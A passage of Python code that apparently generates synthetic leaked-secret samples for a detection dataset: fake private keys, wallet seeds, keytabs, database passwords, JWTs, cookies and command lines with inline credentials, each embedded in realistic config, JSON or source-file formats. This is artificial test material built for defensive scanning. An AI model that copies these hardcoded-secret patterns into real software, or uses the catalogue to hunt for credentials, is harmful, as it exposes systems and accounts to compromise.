    if where == "body":
        ctxs = list(spec["extra"]) if (spec["extra"] and idx % 2 == 0) else list(BODY_CTX)
        return T(*pick(ctxs)(pairs))
    if where == "header":
        return T(pick(spec["hdr"] or GENERIC_HDR)(pairs))
    if where == "url":
        return T(pick(spec["url"] or GENERIC_URL)(pairs))
    return T(pick(spec["dns"])(pairs))


def reg_vendors():
    for spec in VENDORS:
        for i, w in enumerate(spec["w"]):
            POS.append((spec["cls"], WMAP[w], (lambda s, i: (lambda where: vendor_case(s, where, i)))(spec, i)))


# ---------------------------------------------------------------- private keys (never PEM-armoured)
def jwk_rsa(k, kid=None):
    d = {"kty": "RSA", "kid": kid or rhex(16), "use": "sig", "alg": "RS256", "n": b64u(ibytes(k["n"])), "e": "AQAB",
         "d": b64u(ibytes(k["d"])), "p": b64u(ibytes(k["p"])), "q": b64u(ibytes(k["q"])), "dp": b64u(ibytes(k["dp"])),
         "dq": b64u(ibytes(k["dq"])), "qi": b64u(ibytes(k["qi"]))}
    return d


@P("rsa-private-key-der-base64", "bb")
def _p_rsa_der(where):
    k = rsa_parts()
    der = b64(rsa_pkcs8(k) if chance(0.6) else rsa_pkcs1(k))
    c = rint(0, 4)
    if c == 0:
        return T(jdump({"issuer": "https://auth.%s" % domain(), "alg": "RS256", "kid": rhex(8), "signing_key": der}), "application/json")
    if c == 1:
        return T("JWT_ISSUER=%s\nJWT_PRIVATE_KEY=%s\nJWT_TTL=3600\n" % (domain(), der), "text/plain")
    if c == 2:
        return T("key material below (header/footer lines removed, add them back yourself):\n\n%s\n" % wrap(der, 64), "text/plain")
    if c == 3:
        return T('public final class Keys {\n    static final String SIGNING_KEY =\n        "%s";\n}\n' % der, "text/x-java")
    return T("signer:\n  algorithm: RS256\n  privateKey: |\n    %s\n" % wrap(der, 76).replace("\n", "\n    "), "application/yaml")


@P("ec-private-key-der", "bu")
def _p_ec_der(where):
    der = ec_sec1() if chance(0.5) else ec_pkcs8()
    if where == "url":
        return T(url_with([("device", "edge-%s" % rs(6, LN)), ("k", b64(der))]))
    if chance(0.5):
        return T(jdump({"device_id": ruuid(), "firmware": "2.%d.%d" % (rint(0, 9), rint(0, 30)), "private_key_der_hex": der.hex()}), "application/json")
    return T("apple.pay.merchant.key=%s\napple.pay.merchant.id=merchant.com.%s\n" % (b64(der), pick(ORGS)), "text/plain")


@P("ed25519-private-key-pkcs8", "bh")
def _p_ed(where):
    v = b64(ed25519_pkcs8())
    if where == "header":
        return T("X-Signing-Key: %s" % v)
    if chance(0.5):
        return T("WEBHOOK_SIGNING_ALG=Ed25519\nWEBHOOK_SIGNING_KEY=%s\n" % v, "text/plain")
    return T(jdump({"keys": [{"id": "k%d" % rint(1, 9), "type": "ed25519", "pkcs8": v, "created": rts()}]}), "application/json")


@P("jwk-private-key", "bb")
def _p_jwk(where):
    c = rint(0, 2)
    if c == 0:
        d = {"keys": [jwk_rsa(rsa_parts())]}
    elif c == 1:
        d = {"kty": "EC", "crv": "P-256", "kid": ruuid(), "x": b64u(rb(32)), "y": b64u(rb(32)), "d": b64u(rb(32))}
    else:
        d = {"kty": "OKP", "crv": "Ed25519", "x": b64u(rb(32)), "d": b64u(rb(32)), "kid": "sig-%d" % repoch()}
    if chance(0.5):
        return T(jdump(d, indent=2), pick(["application/jwk+json", "application/jwk-set+json", "application/json"]))
    return T(jdump({"name": "oidc-signing", "value": jdump(d), "type": "jwk"}), "application/json")


@P("xml-rsa-key-value", "b")
def _p_xmlrsa(where):
    k = rsa_parts()
    x = ("<RSAKeyValue><Modulus>%s</Modulus><Exponent>AQAB</Exponent><P>%s</P><Q>%s</Q><DP>%s</DP><DQ>%s</DQ>"
         "<InverseQ>%s</InverseQ><D>%s</D></RSAKeyValue>" % tuple(b64(ibytes(k[n])) for n in ["n", "p", "q", "dp", "dq", "qi", "d"]))
    if chance(0.5):
        return T('<?xml version="1.0"?>\n<configuration>\n  <licensing>\n    <signingKey>%s</signingKey>\n  </licensing>\n</configuration>\n'
                 % x.replace("<", "&lt;").replace(">", "&gt;") if chance(0.3) else
                 '<?xml version="1.0"?>\n<configuration>\n  <licensing>\n    %s\n  </licensing>\n</configuration>\n' % x, "application/xml")
    return T(x, "text/xml")


@P("openssh-private-key-body", "bb")
def _p_openssh(where):
    comment = "%s@%s" % (ruser(), pick(["laptop", "build-01", "bastion", "mbp"]))
    body = openssh_ed25519_body(comment) if chance(0.6) else openssh_rsa_body(comment)
    c = rint(0, 2)
    if c == 0:
        return T("deploy_user: %s\ndeploy_key_body: |\n  %s\n" % (ruser(), wrap(body, 70).replace("\n", "\n  ")), "application/yaml")
    if c == 1:
        return T(jdump({"host": host(), "user": "ubuntu", "id_key": body}), "application/json")
    return T(wrap(body, 70) + "\n", "text/plain")


@P("putty-private-key", "b")
def _p_ppk(where):
    comment = pick(["rsa-key-2024%02d%02d" % (rint(1, 12), rint(1, 28)), "eddsa-key-2025%02d%02d" % (rint(1, 12), rint(1, 28)), "%s@winbox" % ruser()])
    txt = ppk_ed25519(comment) if chance(0.5) else ppk_rsa(comment)
    if chance(0.5):
        return T(txt, "application/octet-stream")
    return T(jdump({"filename": "%s.ppk" % pick(WORDS), "content": txt}), "application/json")


@P("private-key-byte-array", "bb")
def _p_bytes(where):
    c = rint(0, 3)
    if c == 0:
        der = ec_sec1()
        return T("package keys\n\n// signingKey is the P-256 key used for release manifests.\nvar signingKey = []byte{%s}\n" %
                 ", ".join("0x%02x" % b for b in der), "text/x-go")
    if c == 1:
        k = rb(32)
        return T("static const uint8_t device_private_key[32] = {\n    %s\n};\n" % ",\n    ".join(", ".join("0x%02X" % b for b in k[i:i + 8]) for i in range(0, 32, 8)), "text/x-c")
    if c == 2:
        k = rb(32)
        return T("/// node identity secret key\npub const NODE_SECRET_KEY: [u8; 32] = [%s];\n" % ", ".join(str(b) for b in k), "text/x-rust")
    k = ed25519_pkcs8()
    return T("PRIVATE_KEY_PKCS8 = bytes([%s])\n" % ", ".join(str(b) for b in k), "text/x-python")


@P("bitcoin-wif-private-key", "bu")
def _p_wif(where):
    w = wif(compressed=chance(0.7), testnet=chance(0.15))
    if where == "url":
        return T(url_with([("wallet", "cold"), ("wif", w)]))
    c = rint(0, 2)
    if c == 0:
        return T(jdump({btc_bech32_addr(): "p2wpkh:" + w}, indent=4), "application/json")
    if c == 1:
        return T("$ bitcoin-cli -rpcwallet=%s importprivkey %s \"%s\" false\n" % (pick(WORDS), w, pick(WORDS)), "text/plain")
    return T(prose("private key (WIF): " + w), "text/plain; charset=utf-8")


@P("bip32-extended-private-key", "bh")
def _p_xprv(where):
    x = xkey(True, testnet=chance(0.2))
    if where == "header":
        return T("X-Wallet-Descriptor: wpkh(%s/84h/0h/0h/0/*)" % x)
    if chance(0.5):
        return T(jdump({"label": pick(WORDS), "descriptor": "wpkh(%s/84'/0'/0'/0/*)#%s" % (x, rs(8, LN)), "timestamp": "now", "active": True}), "application/json")
    return T("wallet backup\n-------------\nroot: %s\nfingerprint: %s\n" % (x, rhex(8)), "text/plain")


@P("ethereum-private-key", "bbh")
def _p_eth(where):
    k = rhex(64)
    if where == "header":
        return T("X-Private-Key: 0x%s" % k)
    c = rint(0, 2)
    if c == 0:
        return T("require('@nomicfoundation/hardhat-toolbox');\nmodule.exports = {\n  solidity: '0.8.24',\n  networks: {\n    sepolia: {\n"
                 "      url: 'https://sepolia.infura.io/v3/%s',\n      accounts: ['0x%s'],\n    },\n  },\n};\n" % (rhex(32), k), "application/javascript")
    if c == 1:
        return T("RPC_URL=https://eth-mainnet.example.net\nDEPLOYER_PRIVATE_KEY=%s%s\nCHAIN_ID=1\n" % (pick(["0x", ""]), k), "text/plain")
    return T("from web3 import Account\nacct = Account.from_key('0x%s')\nprint(acct.address)\n" % k, "text/x-python")


@P("solana-keypair", "bb")
def _p_sol(where):
    kb = rb(64)
    c = rint(0, 2)
    if c == 0:
        return T("[" + ",".join(str(b) for b in kb) + "]", "application/json")
    if c == 1:
        return T(jdump({"publicKey": b58(kb[32:]), "secretKey": b58(kb)}), "application/json")
    return T("SOLANA_PAYER_SECRET=%s\nSOLANA_RPC=https://api.mainnet-beta.solana.com\n" % b58(kb), "text/plain")


@P("bip39-seed-phrase", "bb")
def _p_bip39(where):
    m = bip39_mnemonic(pick([12, 12, 24, 18]))
    c = rint(0, 3)
    if c == 0:
        return T(prose(m), "text/plain; charset=utf-8")
    if c == 1:
        return T(jdump({"wallet": pick(WORDS), "mnemonic": m, "path": "m/44'/60'/0'/0/0"}), "application/json")
    if c == 2:
        return T("\n".join("%d. %s" % (i + 1, w) for i, w in enumerate(m.split())) + "\n", "text/plain")
    return T('MNEMONIC="%s"\nNETWORK=mainnet\n' % m, "text/plain")


@P("age-secret-key", "bn")
def _p_age(where):
    s = age_secret()
    if where == "hostname":
        lo = s.lower()
        return T("%s.%s.%s" % (lo[:37], lo[37:], pick(["k.example.net", "sync.example.org"])))
    if chance(0.5):
        return T("# created: %s\n# public key: %s\n%s\n" % (rts(), age_public(), s), "text/plain")
    return T("SOPS_AGE_KEY=%s\n" % s, "text/plain")


@P("wireguard-private-key", "b")
def _p_wg(where):
    return T("[Interface]\nPrivateKey = %s\nAddress = 10.%d.%d.%d/32\nDNS = 1.1.1.1\n\n[Peer]\nPublicKey = %s\nAllowedIPs = 0.0.0.0/0\nEndpoint = %s:51820\n"
             % (b64(rb(32)), rint(0, 255), rint(0, 255), rint(2, 254), b64(rb(32)), rip()), "text/plain")


@P("nostr-nsec-key", "bu")
def _p_nsec(where):
    s = nsec()
    if where == "url":
        return T(url_with([("login", s)], path="/connect"))
    return T(jdump({"relays": ["wss://relay.damus.io", "wss://nos.lol"], "npub": npub(), "nsec": s}), "application/json")


def keytab():
    realm = (pick(ORGS).replace("-", "") + ".LOCAL").upper().encode()
    out = b"\x05\x02"
    for et in [18, 17]:
        klen = 32 if et == 18 else 16
        princ = (struct.pack(">H", 1) + struct.pack(">H", len(realm)) + realm + struct.pack(">H", 8) + b"svc_http" +
                 struct.pack(">I", 1) + struct.pack(">I", repoch()) + bytes([rint(1, 9)]) + struct.pack(">H", et) +
                 struct.pack(">H", klen) + rb(klen))
        out += struct.pack(">i", len(princ)) + princ
    return out


@P("kerberos-keytab", "b")
def _p_keytab(where):
    kt = keytab()
    if chance(0.5):
        return BIN(kt, "application/octet-stream")
    return T(jdump({"service": "HTTP/%s" % host(), "keytab_b64": b64(kt)}), "application/json")


@P("tor-onion-service-key", "b")
def _p_tor(where):
    blob = b"== ed25519v1-secret: type0 ==\x00\x00\x00" + rb(64)
    return T(jdump({"hostname": rs(56, "abcdefghijklmnopqrstuvwxyz234567") + ".onion", "hs_ed25519_secret_key": b64(blob)}), "application/json")


# ---------------------------------------------------------------- generic secrets with context
@P("password-in-config-file", "bbb")
def _g_pwcfg(where):
    u, p, h = ruser(), rpassword(), host()
    c = rint(0, 7)
    if c == 0:
        return T("database:\n  host: %s\n  port: 5432\n  username: %s\n  password: \"%s\"\n  pool: 10\n" % (h, u, p), "application/yaml")
    if c == 1:
        return T("spring.datasource.url=jdbc:postgresql://%s:5432/app\nspring.datasource.username=%s\nspring.datasource.password=%s\n" % (h, u, p), "text/plain")
    if c == 2:
        return T("<?php\ndefine( 'DB_NAME', 'wordpress' );\ndefine( 'DB_USER', '%s' );\ndefine( 'DB_PASSWORD', '%s' );\ndefine( 'DB_HOST', 'localhost' );\n" % (u, p), "application/x-httpd-php")
    if c == 3:
        return T("DATABASES = {\n    'default': {\n        'ENGINE': 'django.db.backends.postgresql',\n        'NAME': 'app',\n        'USER': '%s',\n        'PASSWORD': '%s',\n        'HOST': '%s',\n    }\n}\n" % (u, p, h), "text/x-python")
    if c == 4:
        return T("[client]\nuser=%s\npassword=%s\nhost=%s\n" % (u, p, h), "text/plain")
    if c == 5:
        return T("<settings>\n  <servers>\n    <server>\n      <id>%s-releases</id>\n      <username>%s</username>\n      <password>%s</password>\n    </server>\n  </servers>\n</settings>\n" % (pick(ORGS), u, p.replace("&", "&amp;").replace("<", "&lt;")), "application/xml")
    if c == 6:
        return T("bind 0.0.0.0\nport 6379\nrequirepass %s\nmaxmemory 2gb\n" % p, "text/plain")
    return T(jdump({"ConnectionStrings": {"Default": "Host=%s;Database=app;Username=%s;Password=%s" % (h, u, p)}, "Logging": {"LogLevel": {"Default": "Information"}}}, indent=2), "application/json")


def dsn():
    u, p, h = ruser(), pq(rpassword(), safe="!*"), host()
    return pick(["postgres://%s:%s@%s:5432/%s?sslmode=require" % (u, p, h, pick(SVC)),
                 "mysql://%s:%s@%s:3306/%s" % (u, p, h, pick(SVC)),
                 "mongodb+srv://%s:%s@cluster0.%s.mongodb.net/%s?retryWrites=true&w=majority" % (u, p, rs(5, LN), pick(SVC)),
                 "redis://:%s@%s:6379/0" % (p, h), "rediss://default:%s@%s:6380" % (p, h),
                 "amqp://%s:%s@%s:5672/%s" % (u, p, h, pick(SVC)),
                 "postgresql+asyncpg://%s:%s@%s/%s" % (u, p, h, pick(SVC))])


@P("database-connection-string", "bbu")
def _g_dsn(where):
    d = dsn()
    if where == "url":
        return T(url_with([("dsn", d), ("check", "1")], path="/debug/db"))
    return T(*pick(BODY_CTX)([(pick(["DATABASE_URL", "MONGO_URI", "REDIS_URL", "BROKER_URL"]), d)]))


@P("ado-jdbc-connection-string", "b")
def _g_ado(where):
    u, p, h = ruser(), rpassword().replace(";", "!"), host()
    s = pick(["Server=tcp:%s.database.windows.net,1433;Initial Catalog=%s;User ID=%s;Password=%s;Encrypt=True;" % (pick(ORGS), pick(SVC), u, p),
              "jdbc:postgresql://%s:5432/%s?user=%s&password=%s" % (h, pick(SVC), u, pq(p)),
              "jdbc:oracle:thin:%s/%s@%s:1521:ORCL" % (u, p.replace("@", "#"), h),
              "Driver={ODBC Driver 18 for SQL Server};Server=%s;Database=%s;Uid=%s;Pwd=%s;" % (h, pick(SVC), u, p)])
    return T(*pick([c_json, c_xml, c_properties, c_env])([("CONNECTION_STRING", s)]))


@P("netrc-credentials", "b")
def _g_netrc(where):
    lines = []
    for _ in range(rint(1, 3)):
        lines.append("machine %s\n  login %s\n  password %s" % (host(), ruser(), rpassword()))
    return T("\n".join(lines) + "\n", "text/plain")


@P("pgpass-entry", "b")
def _g_pgpass(where):
    lines = ["%s:%d:%s:%s:%s" % (host(), pick([5432, 6432]), pick(SVC), ruser(), rpassword().replace(":", "")) for _ in range(rint(1, 3))]
    return T("\n".join(lines) + "\n", "text/plain")


@P("git-credentials-file", "b")
def _g_gitcred(where):
    if chance(0.5):
        return T("\n".join("https://%s:%s@%s" % (ruser(), pq(rpassword()), pick(["gitlab.%s" % domain(), "git.%s" % domain(), "bitbucket.org"])) for _ in range(rint(1, 2))) + "\n", "text/plain")
    return T("protocol=https\nhost=git.%s\nusername=%s\npassword=%s\n" % (domain(), ruser(), rpassword()), "text/plain")


def apr1():
    return "$apr1$%s$%s" % (rs(8, AN + "./"), rs(22, AN + "./"))


def bcrypt_h():
    return "$2%s$%02d$%s" % (pick("aby"), pick([10, 11, 12]), rs(53, AN + "./"))


@P("htpasswd-entry", "b")
def _g_htpasswd(where):
    lines = ["%s:%s" % (ruser(), pick([apr1(), bcrypt_h(), "{SHA}" + b64(rb(20))])) for _ in range(rint(1, 3))]
    return T("\n".join(lines) + "\n", "text/plain")


@P("shadow-password-hash", "b")
def _g_shadow(where):
    lines = ["root:%s:19%03d:0:99999:7:::" % (pick(["$6$%s$%s" % (rs(16, AN + "./"), rs(86, AN + "./")), "$y$j9T$%s$%s" % (rs(22, AN + "./"), rs(43, AN + "./"))]), rint(100, 999)),
             "daemon:*:19%03d:0:99999:7:::" % rint(100, 999),
             "%s:$6$%s$%s:19%03d:0:99999:7:::" % (ruser().replace(".", ""), rs(16, AN + "./"), rs(86, AN + "./"), rint(100, 999))]
    return T("\n".join(lines) + "\n", "text/plain")


@P("docker-config-auth", "b")
def _g_dockercfg(where):
    auths = {}
    for reg in [pick(["https://index.docker.io/v1/", "ghcr.io", "registry.gitlab.com"]), "registry.%s" % domain()]:
        auths[reg] = {"auth": b64("%s:%s" % (ruser(), rpassword()))}
    return T(jdump({"auths": auths, "credsStore": ""} if chance(0.3) else {"auths": auths}, indent=pick([None, 2])), "application/json")


def k8s_sa_jwt():
    ns, sa = pick(["default", "kube-system", "ci", "prod"]), pick(["deployer", "argo", "default", "tekton"])
    return jwt({"aud": ["https://kubernetes.default.svc.cluster.local"], "exp": repoch() + 31536000, "iat": repoch(),
                "iss": "https://kubernetes.default.svc.cluster.local",
                "kubernetes.io": {"namespace": ns, "serviceaccount": {"name": sa, "uid": ruuid()}}, "sub": "system:serviceaccount:%s:%s" % (ns, sa)},
               alg="RS256", kid=b64u(rb(32)))


@P("kubeconfig-token", "b")
def _g_kubeconfig(where):
    tok = k8s_sa_jwt() if chance(0.6) else "%s.%s" % (rs(6, LN), rs(16, LN))
    cl = pick(ORGS) + "-prod"
    return T("apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    certificate-authority-data: %s\n    server: https://%s:6443\n  name: %s\n"
             "contexts:\n- context:\n    cluster: %s\n    user: %s-admin\n  name: %s\ncurrent-context: %s\nusers:\n- name: %s-admin\n  user:\n    token: %s\n"
             % (b64(rb(48)), rip(), cl, cl, cl, cl, cl, cl, tok), "application/yaml")


def user_jwt():
    return jwt({"sub": ruuid(), "email": email(), "role": pick(["admin", "user", "owner"]), "iat": repoch(), "exp": repoch() + 3600,
                "iss": "https://auth.%s/" % domain(), "aud": pick(SVC)}, alg=pick(["HS256", "RS256", "ES256"]), kid=pick([None, rhex(16)]))


@P("jwt-bearer-token", "bhhuu")
def _g_jwt(where):
    t = user_jwt()
    if where == "header":
        return T("Authorization: Bearer %s" % t)
    if where == "url":
        return T("https://%s/sso/callback?access_token=%s&state=%s" % (xhost(), t, rs(16, AN)))
    if chance(0.5):
        return T(jdump({"access_token": t, "token_type": "Bearer", "expires_in": 3600, "refresh_token": rs(64, AN)}), "application/json")
    return T("curl -H 'Authorization: Bearer %s' https://%s/v1/me\n" % (t, host()), "text/plain")


def session_cookie():
    c = rint(0, 6)
    if c == 0:
        return "sessionid=%s; csrftoken=%s" % (rs(32, LN), rs(32, AN))
    if c == 1:
        return "connect.sid=s%%3A%s.%s" % (rs(32, AN + "-_"), pq(rs(43, AN + "+/")))
    if c == 2:
        return "session=%s.%s.%s" % (b64u(jdump({"user_id": rint(1, 99999), "_fresh": True})), rs(6, AN + "-_"), rs(27, AN + "-_"))
    if c == 3:
        return "JSESSIONID=%s" % rhex(32).upper()
    if c == 4:
        return "PHPSESSID=%s; lang=en" % rs(26, LN)
    if c == 5:
        return "_%s_session=%s--%s--%s" % (pick(SVC).replace("-", "_"), pq(b64(rb(96))), pq(b64(rb(12))), pq(b64(rb(16))))
    return ".AspNetCore.Cookies=CfDJ8%s" % rs(300, AN + "-_")


@P("session-cookie", "hhh")
def _g_cookie(where):
    ck = session_cookie()
    if where == "header":
        return T("Cookie: %s" % ck)
    return T(jdump({"log": {"version": "1.2", "entries": [{"request": {"method": "GET", "url": "https://%s/dashboard" % host(),
                                                                         "headers": [{"name": "Cookie", "value": ck}, {"name": "Accept", "value": "text/html"}]}}]}}),
             "application/json")


@P("basic-auth-header", "hhh")
def _g_basic(where):
    cred = b64("%s:%s" % (ruser(), rpassword()))
    if where == "header":
        return T("%s: Basic %s" % (pick(["Authorization", "Authorization", "Proxy-Authorization"]), cred))
    return T("GET /api/v2/status HTTP/1.1\r\nHost: %s\r\nAuthorization: Basic %s\r\nAccept: */*\r\n\r\n" % (host(), cred), "message/http")


PW_PROSE = {
    "en": ["btw the admin password for the staging box is {p} — I'll change it next week", "Login for the router: user {u}, password {p}"],
    "de": ["Das Passwort für den Server lautet {p}, Benutzer ist {u}.", "Kennwort fürs WLAN im Büro: {p}"],
    "fr": ["Le mot de passe du compte {u} est {p}, ne le partage pas.", "mdp de la base : {p}"],
    "es": ["La contraseña del panel es {p} (usuario {u}).", "Contraseña nueva: {p}"],
    "pt": ["A senha do banco é {p}, usuário {u}."],
    "it": ["La password dell'account {u} è {p}."],
    "ja": ["サーバーのパスワードは {p} です（ユーザー名 {u}）。"],
    "zh": ["数据库密码是 {p}，用户名 {u}。"],
    "ru": ["Пароль от админки: {p}, логин {u}."],
    "nl": ["Het wachtwoord van {u} is {p}."],
    "pl": ["Hasło do konta {u} to {p}."],
    "tr": ["Sunucu şifresi {p}, kullanıcı adı {u}."],
    "sv": ["Lösenordet till {u} är {p}."],
}


@P("password-in-prose", "bbb")
def _g_pwprose(where):
    lang = pick(list(PW_PROSE))
    txt = pick(PW_PROSE[lang]).replace("{p}", rpassword()).replace("{u}", ruser())
    k = rint(0, 2)
    if k == 0:
        return T(jdump({"channel": "C" + rs(10, UN), "text": txt}), "application/json")
    if k == 1:
        return T(jdump({"model": pick(LLM_MODELS_OAI), "messages": [{"role": "user", "content": "Translate to English: " + txt}]}), "application/json")
    return T(txt, "text/plain; charset=utf-8")


def cmdline():
    u, p, h = ruser(), rpassword().replace("'", ""), host()
    return pick(["mysql -h %s -u %s -p'%s' %s" % (h, u, p, pick(SVC)),
                 "sshpass -p '%s' ssh %s@%s" % (p, u, h),
                 "curl -u %s:'%s' https://%s/api/v1/export" % (u, p, h),
                 "PGPASSWORD='%s' psql -h %s -U %s -d %s" % (p, h, u, pick(SVC)),
                 "docker login -u %s -p '%s' registry.%s" % (u, p, domain()),
                 "net use Z: \\\\fileserver\\share %s /user:CORP\\%s" % (p.replace(" ", ""), u),
                 "mongosh \"mongodb://%s:%s@%s:27017/admin\"" % (u, pq(p), h),
                 "smbclient //%s/backup -U '%s%%%s'" % (h, u, p),
                 "ldapsearch -x -H ldaps://%s -D 'cn=%s,dc=corp,dc=local' -w '%s' '(uid=*)'" % (h, u, p),
                 "openssl pkcs12 -export -in cert.pem -inkey key.pem -out bundle.p12 -passout pass:'%s'" % p,
                 "wget --user=%s --password='%s' https://%s/backup.tar.gz" % (u, p, h)])


@P("password-on-command-line", "bb")
def _g_cmd(where):
    k = rint(0, 2)
    if k == 0:
        lines = ["cd /srv/%s" % pick(SVC), "git pull", cmdline(), "ls -la", cmdline() if chance(0.3) else "exit"]
        return T("\n".join(lines) + "\n", "text/plain")
    if k == 1:
        return T(jdump({"tool": "shell", "command": cmdline(), "cwd": "/workspace"}), "application/json")
    return T("+ %s\n%s\n" % (cmdline(), pick(["Warning: Using a password on the command line interface can be insecure.", "Login Succeeded", "OK"])), "text/plain")


@P("env-file-generic-secrets", "bb")
def _g_env(where):
    pairs = [("DB_PASSWORD", rpassword()), ("JWT_SECRET", pick([rhex(64), b64(rb(48))])), ("SESSION_SECRET", rs(40, AN)),
             ("REDIS_PASSWORD", rpassword()), ("ENCRYPTION_KEY", b64(rb(32)))]
    R.shuffle(pairs)
    return T(*c_env(pairs[:rint(2, 4)]))


@P("framework-secret-key", "bb")
def _g_fw(where):
    c = rint(0, 4)
    if c == 0:
        return T("SECRET_KEY = '%s'\nDEBUG = False\nALLOWED_HOSTS = ['%s']\n" % (rs(50, LO + DG + "!@#$%^&*(-_=+)"), host()), "text/x-python")
    if c == 1:
        return T("production:\n  secret_key_base: %s\n" % rhex(128), "application/yaml")
    if c == 2:
        return T("APP_NAME=Laravel\nAPP_ENV=production\nAPP_KEY=base64:%s\nAPP_DEBUG=false\n" % b64(rb(32)), "text/plain")
    if c == 3:
        return T("APP_ENV=prod\nAPP_SECRET=%s\n" % rhex(32), "text/plain")
    return T("config :my_app, MyAppWeb.Endpoint,\n  secret_key_base: \"%s\"\n" % rs(64, AN + "+/"), "text/plain")


@P("url-userinfo-credentials", "uuu")
def _g_userinfo(where):
    return T("https://%s:%s@%s/%s" % (pq(ruser()), pq(rpassword()), pick(["registry." + domain(), "git." + domain(), "nexus." + domain(), host()]),
                                      pick(["v2/", "repository/releases/", "api/v1/upload", "org/repo.git"])))


@P("password-in-url-query", "uu")
def _g_pwquery(where):
    return T("https://%s/%s?%s" % (host(), pick(["login", "api/auth", "cgi-bin/admin.cgi", "rest/session"]),
                                   qs([("username", ruser()), (pick(["password", "passwd", "pwd", "pass"]), rpassword()), ("remember", "1")])))


@P("wifi-psk", "b")
def _g_wifi(where):
    ssid, p = "%s-%s" % (pick(ORGS).upper(), pick(["Guest", "Office", "5G", "IoT"])), rpassword()
    c = rint(0, 2)
    if c == 0:
        return T('ctrl_interface=/var/run/wpa_supplicant\nnetwork={\n    ssid="%s"\n    psk="%s"\n    key_mgmt=WPA-PSK\n}\n' % (ssid, p), "text/plain")
    if c == 1:
        return T("[connection]\nid=%s\ntype=wifi\n\n[wifi]\nssid=%s\n\n[wifi-security]\nkey-mgmt=wpa-psk\npsk=%s\n" % (ssid, ssid, p), "text/plain")
    return T(jdump({"qr": "WIFI:T:WPA;S:%s;P:%s;;" % (ssid, p.replace(";", "")), "size": 512}), "application/json")


@P("network-device-credentials", "b")
def _g_netdev(where):
    t7 = "%02d" % rint(0, 15) + rhex(2 * rint(5, 10)).upper()
    return T("hostname %s-core-%02d\n!\nenable secret 5 $1$%s$%s\nusername admin privilege 15 password 7 %s\n!\nsnmp-server community %s RW\n"
             "line vty 0 4\n login local\n" % (pick(ORGS), rint(1, 9), rs(4, AN), rs(22, AN + "./"), t7, rpassword().replace(" ", "")), "text/plain")


@P("smtp-credentials", "b")
def _g_smtp(where):
    u, p = email(), rpassword()
    if chance(0.5):
        return T("[smtp.%s]:587 %s:%s\n" % (domain(), u, p), "text/plain")
    return T(jdump({"mail": {"host": "smtp.%s" % domain(), "port": 587, "secure": False, "auth": {"user": u, "pass": p}}}, indent=2), "application/json")


@P("ldap-bind-password", "b")
def _g_ldap(where):
    dn = "cn=%s,ou=services,dc=%s,dc=local" % (pick(SVC), pick(ORGS).replace("-", ""))
    if chance(0.5):
        return T("[domain/corp]\nid_provider = ldap\nldap_uri = ldaps://ldap.%s\nldap_default_bind_dn = %s\nldap_default_authtok = %s\n" % (domain(), dn, rpassword()), "text/plain")
    return T("URI ldaps://ldap.%s\nBASE dc=corp,dc=local\nBINDDN %s\nbindpw %s\n" % (domain(), dn, rpassword()), "text/plain")


@P("oauth-client-secret-generic", "bh")
def _g_oauth(where):
    cid, sec = rs(24, AN), rs(rint(32, 64), AN + "-_~.")
    if where == "header":
        return T("X-Client-Secret: %s" % sec)
    if chance(0.5):
        return T(qs([("grant_type", "client_credentials"), ("client_id", cid), ("client_secret", sec), ("scope", "read write")]), "application/x-www-form-urlencoded")
    return T(jdump({"oauth": {"client_id": cid, "client_secret": sec, "token_url": "https://auth.%s/oauth/token" % domain()}}), "application/json")


@P("api-key-header-generic", "hhh")
def _g_apikeyhdr(where):
    return T(pick(["X-API-Key: %s" % rhex(32), "Authorization: ApiKey %s" % b64("%s:%s" % (rs(20, AN), rs(22, AN + "-_"))),
                   "Authorization: Splunk %s" % ruuid(), "X-Auth-Token: %s" % rs(40, AN), "Api-Secret: %s" % rs(32, AN)]))


@P("totp-shared-secret", "bu")
def _g_totp(where):
    sec = b32(rb(20), pad=False)
    uri = "otpauth://totp/%s:%s?secret=%s&issuer=%s&algorithm=SHA1&digits=6&period=30" % (pick(ORGS).capitalize(), pq(email()), sec, pick(ORGS).capitalize())
    if where == "url":
        return T("https://api.qrserver.com/v1/create-qr-code/?size=200x200&data=%s" % pq(uri))
    return T(jdump({"account": email(), "totp_uri": uri}), "application/json")


@P("filezilla-saved-password", "b")
def _g_filezilla(where):
    return T('<?xml version="1.0" encoding="UTF-8"?>\n<FileZilla3>\n  <Servers>\n    <Server>\n      <Host>%s</Host>\n      <Port>21</Port>\n      <Protocol>0</Protocol>\n'
             '      <User>%s</User>\n      <Pass encoding="base64">%s</Pass>\n    </Server>\n  </Servers>\n</FileZilla3>\n' % (host(), ruser(), b64(rpassword())), "application/xml")


@P("hmac-signing-secret", "b")
def _g_hmac(where):
    s = rs(rint(32, 48), AN)
    if chance(0.5):
        return T(jdump({"name": "web", "active": True, "events": ["push", "pull_request"], "config": {"url": "https://%s/hooks" % host(), "content_type": "json", "secret": s}}), "application/json")
    return T("WEBHOOK_SIGNING_SECRET=%s\nWEBHOOK_TOLERANCE=300\n" % s, "text/plain")


@P("symmetric-encryption-key", "b")
def _g_sym(where):
    return pick([lambda: T("AES_256_KEY=%s\nAES_IV=%s\n" % (rhex(64), rhex(32)), "text/plain"),
                 lambda: T("FERNET_KEY=%s\n" % b64u(rb(32), pad=True), "text/plain"),
                 lambda: T(jdump({"kms": "local", "data_key": b64(rb(32)), "algorithm": "AES-256-GCM"}), "application/json")])()

# ---------------------------------------------------------------- personal and financial data
def pii_wrap(fields, where, label):
    """fields: list of (name, value) describing one person/record."""
    if where == "url":
        return T("https://%s/%s?%s" % (pick(["forms." + domain(), xhost(), "crm." + domain()]), pick(["submit", "api/lead", "apply", "verify"]), qs(fields)))
    c = rint(0, 5)
    if c == 0:
        hdr = [k for k, _ in fields]
        rows = [",".join(hdr)]
        rows.append(",".join('"%s"' % v if "," in v else v for _, v in fields))
        return T("\n".join(rows) + "\n", "text/csv")
    if c == 1:
        return T(jdump({"customer": dict(fields), "source": pick(["import", "crm", "support"]), "ts": rts()}), "application/json")
    if c == 2:
        return T(qs(fields), "application/x-www-form-urlencoded")
    if c == 3:
        return T(jdump({"model": pick(LLM_MODELS_OAI), "messages": [{"role": "user", "content": "Fill in the application form using these details:\n" +
                                                                      "\n".join("%s: %s" % kv for kv in fields)}]}), "application/json")
    if c == 4:
        return T(jdump({"ticket": {"subject": pick(["Account verification", "Refund request", "Update my details"]),
                                   "comment": {"body": pick(["Hello, ", "Hi team, ", "Bonjour, ", "Hallo, "]) + "; ".join("%s %s" % kv for kv in fields)}}}), "application/json")
